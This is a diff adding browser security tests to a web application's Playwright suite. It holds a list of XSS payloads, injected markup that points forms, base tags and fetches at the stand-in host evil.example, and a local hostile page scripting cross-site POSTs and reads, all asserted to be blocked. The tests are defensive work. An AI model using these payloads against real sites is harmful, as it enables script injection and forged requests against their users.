@@ -2,6 +2,10 @@
 
 import re
 import shutil
+import threading
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import quote
 
 import pytest
 from axe_playwright_python.sync_playwright import Axe
@@ -41,12 +45,17 @@ def visit(chromium, site, mariadb):
     mariadb.run(*(f"DELETE FROM {site.database}.{table}" for table in TABLES))
     contexts, complaints = [], []
 
+    def foreign(url):
+        return not url.startswith((f"http://127.0.0.1:{site.port}/", "data:", "about:"))
+
     def visit(path="/", **options):
         contexts.append(chromium.new_context(base_url=f"http://127.0.0.1:{site.port}", **options))
         page = contexts[-1].new_page()
         page.set_default_timeout(10_000)
         page.on("pageerror", lambda error: complaints.append(str(error)))
         page.on("console", lambda message: complaints.append(message.text))
+        page.on("dialog", lambda dialog: (complaints.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
+        page.on("request", lambda request: foreign(request.url) and complaints.append(f"asked {request.url}"))
         page.goto(path)
         return page
 
@@ -341,3 +350,184 @@ def test_every_page_is_accessible_and_fits(visit, mariadb, site, scheme):
         for width in (360, 390, 1280, 1920):
             page.set_viewport_size({"width": width, "height": 800})
             assert page.evaluate("document.documentElement.scrollWidth") <= width, f"{name} at {width}"
+
+
+# Each would run a script, or lead elsewhere, where it is taken for markup: in text, in an attribute, in a title.
+MARKUP = [
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror=alert(2)>'><svg onload=alert(3)>",
+    "</title></textarea></style><!--><script>alert(4)</script>",
+    "x\" autofocus onfocus=alert(5) x=' autofocus onfocus=alert(6) y",
+    "x onmouseover=alert(7) y=z",
+    "<iframe srcdoc='<script>parent.alert(8)</script>'></iframe>",
+    "<base href=//evil.example/><script src=a.js></script>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><style>@import '//evil.example/a.css'</style>",
+    "&lt;script&gt;alert(9)&lt;/script&gt; &amp; \\u003cscript\\u003ealert(10)",
+    "{{constructor.constructor('alert(11)')()}}",
+    "javascript:alert(12)//\u202e<script>alert(13)</script>",
+]
+REFLECTING = [
+    "/?q={}",
+    "/?q=a+b+c+d+e+f+g+h+i+{}",
+    "/?status={}&sort={}",
+    "/?cursor={}&{}=a",
+    "/entries/{}/edit",
+    "/static/{}",
+    "/api/v1/entries?search={}&limit={}&{}=a",
+]
+
+
+def test_nothing_stored_becomes_part_of_a_page(visit):
+    """Whatever is not taken for text is a complaint of the browser: of a script that runs, or that the policy stops."""
+    page = visit()
+    add(page, *MARKUP, description="\n".join(MARKUP))
+    assert titles(page) == MARKUP[::-1]
+    addresses = [link.get_attribute("href") for link in page.locator("h2 a").all()]
+    page.get_by_label("Search entries").fill("alert")
+    page.get_by_label("Search entries").press("Enter")
+    expect(page).to_have_url(re.compile("q=alert"))
+    for address, text in zip(addresses, MARKUP[::-1], strict=True):
+        page.goto(address)
+        expect(page.get_by_label("Title")).to_have_value(text)
+        expect(page.get_by_label("Description")).to_have_value("\n".join(MARKUP))
+    page.evaluate("document.getElementById('title').value += 'x'.repeat(200)")
+    button(page, "Save changes").click()
+    expect(page.locator("#title-error")).to_be_visible()
+    open_conflict(page)
+    expect(page.get_by_role("definition").first).to_have_text(MARKUP[-1])
+    page.goto("/entries/import")
+    lines = "".join(f'"{text.replace(chr(34), chr(34) * 2)}",{number}\n' for number, text in enumerate(MARKUP))
+    page.get_by_label("CSV file").set_input_files(
+        {"name": f"{MARKUP[1]}.csv", "mimeType": "text/csv", "buffer": f"title,status\n{lines}".encode()}
+    )
+    button(page, "Import").click()
+    expect(page.locator("tbody tr")).to_have_count(len(MARKUP))
+    page.goto("/")
+    page.locator("li input").first.check()
+    page.get_by_label("All on this page").check()
+    page.get_by_role("group", name="Selected entries").get_by_role("button", name="Delete").click()
+    expect(page.locator(".notice p").first).to_have_text(f"{len(MARKUP)} entries deleted.")
+    page.goto("/deleted")
+    assert page.locator("h2").all_inner_texts() == MARKUP[::-1]
+
+
+def test_nothing_sent_becomes_part_of_a_page(visit):
+    page = visit()
+    for path in REFLECTING:
+        for text in MARKUP[:3]:
+            page.goto(path.replace("{}", quote(text, safe="")))
+
+
+# Pages of each kind: of the application and of nginx, of people and of programs.
+PAGES = ["/", "/entries/new", "/api/v1/docs", "/nothing", "/static/none"]
+# Done to a page that is open, as if it had been written into it. Each would set window.hit, or leave.
+PUT_INTO = """async () => {
+    window.refused = [];
+    addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
+    const here = document.body;
+    here.insertAdjacentHTML("beforeend", '<img src="/none" onerror="window.hit = 1"><base href="//evil.example">');
+    here.insertAdjacentHTML("beforeend", '<a id="go" href="javascript:window.hit = 2">a</a><object data="/"></object>');
+    here.insertAdjacentHTML("beforeend", '<iframe srcdoc="<script>parent.hit = 3<\\/script>"></iframe>');
+    here.insertAdjacentHTML("beforeend", '<form id="leave" action="//evil.example"><p style="color: red">a</p></form>');
+    for (const [name, value] of [["textContent", "window.hit = 4"], ["src", "data:text/javascript,window.hit = 5"]]) {
+        here.append(Object.assign(document.createElement("script"), { [name]: value }));
+    }
+    document.getElementById("go").click();
+    document.getElementById("leave").submit();
+    await fetch("//evil.example").catch(() => 0);
+    await new Promise((done) => setTimeout(done, 50));
+}"""
+STOPPED = {
+    "script-src-attr",
+    "script-src-elem",
+    "style-src-attr",
+    "base-uri",
+    "form-action",
+    "connect-src",
+    "object-src",
+}
+
+
+def test_what_would_become_part_of_a_page_is_not_run(chromium, site):
+    """The policy is the second guard: where text was taken for markup after all, it stops what that would do."""
+    context = chromium.new_context(base_url=f"http://127.0.0.1:{site.port}")
+    page = context.new_page()
+    for path in PAGES:
+        page.goto(path)
+        page.evaluate(PUT_INTO)
+        assert page.evaluate("window.hit") is None, path
+        assert set(page.evaluate("window.refused")) >= STOPPED, path
+        assert page.url.endswith(path)
+    context.close()
+
+
+# What a page of somebody else can do to SITE: send what forms send, ask as scripts ask, include, frame.
+ATTACK = """<!doctype html><title>evil</title><body><iframe name="into"></iframe>FRAMES<script>
+async function attack(got) {
+    const body = "title=evil&action=delete&id=1&list=";
+    for (const path of ["/entries/new", "/entries/1/delete", "/entries/bulk", "/api/v1/entries"]) {
+        for (const type of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data; boundary=x"]) {
+            const headers = { "Content-Type": type };
+            await fetch("SITE" + path, { method: "POST", mode: "no-cors", headers, body }).catch(() => 0);
+        }
+    }
+    const headers = { "Content-Type": "application/json", "If-Match": "*" };
+    for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
+        const asked = fetch("SITE/api/v1/entries/1", { method, headers, body: '{"title": "evil"}' });
+        await asked.then(() => got.push(method), () => 0);
+    }
+    await fetch("SITE/entries.json").then((answer) => got.push(answer.status), () => 0);
+    const script = Object.assign(document.createElement("script"), { src: "SITE/entries.json" });
+    document.body.append(script);
+    await new Promise((next) => { script.onload = () => next(got.push("script")); script.onerror = next; });
+    const form = { method: "post", action: "SITE/entries/1/delete", target: "into" };
+    document.body.appendChild(Object.assign(document.createElement("form"), form)).submit();
+    document.title = got.length ? "got in: " + got : "kept out";
+}
+addEventListener("load", () => attack([]));
+</script>"""
+
+
+@contextmanager
+def evil_page(site):
+    """A site of somebody else on this machine, whose page does what it can to ours; yields its port."""
+    here = f"http://127.0.0.1:{site.port}"
+    frames = "".join(f'<iframe src="{here}{path}"></iframe>' for path in PAGES)
+    page = ATTACK.replace("SITE", here).replace("FRAMES", frames).encode()
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.end_headers()
+            self.wfile.write(page)
+
+        def log_message(self, *words):
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield server.server_port
+        server.shutdown()
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
+def test_a_page_of_somebody_else_can_neither_change_nor_read_nor_frame_anything(chromium, site, visit, host):
+    """On another port, which the browser calls the same site, and under another name."""
+    ours = visit()
+    add(ours, "kept")
+    before = len(site.requests("web"))
+    with evil_page(site) as port:
+        context = chromium.new_context()
+        page = context.new_page()
+        page.goto(f"http://{host}:{port}/")
+        expect(page).to_have_title("kept out", timeout=30_000)
+        page.wait_for_load_state("networkidle")
+        assert {frame.url for frame in page.frames[1:]} == {"chrome-error://chromewebdata/"}
+        context.close()
+    ours.reload()
+    assert titles(ours) == ["kept"]
+    sent = [line for line in site.requests("web")[before:] if line["method"] == "POST"]
+    assert {line["path"] for line in sent} >= {"/entries/new", "/entries/1/delete", "/entries/bulk", "/api/v1/entries"}
+    assert {line["status"] for line in sent} == {403}
